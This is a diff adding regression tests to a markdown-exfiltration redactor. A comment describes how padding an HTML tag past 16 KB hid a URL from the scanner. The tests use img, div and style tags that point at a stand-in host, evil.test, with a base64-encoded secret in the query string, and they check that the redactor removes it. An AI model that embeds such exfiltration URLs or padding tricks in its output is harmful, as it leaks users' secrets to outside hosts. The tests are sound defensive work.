@@ -162,3 +162,17 @@ describe('markdown-exfiltration spans', () => {
     expect(texts({ bare_urls: true })).toEqual(['](', ']:', '<', '<style', 'http', 'www.']);
   });
 });
+
+// Attack review (issue 14): a tag was read over its first 16 KB only, so padding before the
+// URL-bearing attribute hid it from a whole answer (markdown-it and marked render it whole).
+describe('markdown-exfiltration reads a long tag to its end', () => {
+  const url = 'https://evil.test/p.png?d=c2VjcmV0LXRva2Vu';
+  it.each([
+    ['a long alt', `<img alt="${'x'.repeat(17_000)}" src="${url}">`],
+    ['many attributes', `<img ${'a '.repeat(9_000)}src="${url}">`],
+    ['a long style', `<div style="${' '.repeat(17_000)}background:url(${url})">x</div>`],
+    ['a long <style>', `<style>${' '.repeat(17_000)}body{background:url(${url})}</style>`],
+  ])('%s', (_name, text) => {
+    expect(redacted({}, `Look ${text} done`)).not.toContain('c2VjcmV0LXRva2Vu');
+  });
+});
